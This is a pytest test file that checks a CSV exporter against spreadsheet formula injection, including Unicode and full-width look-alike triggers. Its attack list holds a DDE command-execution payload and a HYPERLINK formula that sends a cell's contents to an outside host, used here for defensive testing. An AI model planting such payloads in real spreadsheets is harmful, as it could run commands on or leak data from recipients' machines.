"""Threat 10: no value of a person becomes a formula in a colleague's spreadsheet."""

import csv
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shodaku.imports.domain import OutEncoding, bare_cell, cell, write_row

TRIGGERS = "=+-@\t\r\n＝＋－＠"
BLANKS = [" ", "\u3000", "\u00a0", "\u200b", "\ufeff", "\v", "\0", ""]
TEXTS = st.text(max_size=12) | st.text("'=+-@＝＋－＠−\t\r\n \u200b1A(", max_size=8)

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.net/?"&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "−1",  # U+2212 becomes － in cp932
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "+819012345678",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_could_be_a_formula_is_marked_as_text(attack):
    assert cell(attack) == f"'{attack}"


@pytest.mark.parametrize(
    "text", ["", "山田 太郎", "090-1234-5678", "100-0001", "taro@sample.co.jp", "1=1", "O'Neill", "'90"]
)
def test_an_ordinary_cell_stays_as_it_is(text):
    assert cell(text) == text


@pytest.mark.parametrize("trigger", TRIGGERS)
@pytest.mark.parametrize("blank", BLANKS)
def test_no_blank_hides_a_trigger(trigger, blank):
    assert cell(f"{blank}{trigger}1").startswith("'")


@given(TEXTS)
def test_no_exported_cell_starts_with_a_trigger_nor_does_its_compatible_form(text):
    seen = cell(text).lstrip("".join(BLANKS))
    assert not seen.startswith(tuple(TRIGGERS))
    assert not unicodedata.normalize("NFKC", seen[:1]).startswith(("=", "@", "-")) or seen[:1] in "⁻₋⁼₌"


@given(TEXTS)
def test_the_mark_comes_off_again_when_our_own_file_is_read(text):
    assert bare_cell(cell(text)) == text


@given(st.lists(TEXTS, min_size=1, max_size=4), st.sampled_from(list(OutEncoding)))
def test_nothing_a_spreadsheet_reads_from_a_row_starts_with_a_trigger(cells, encoding):
    line = write_row(cells, encoding).line.decode(encoding.value)
    for read in next(csv.reader([line] if "\n" not in line[:-2] else line.splitlines(keepends=True))):
        assert not read.lstrip("".join(BLANKS)).startswith(tuple(TRIGGERS))
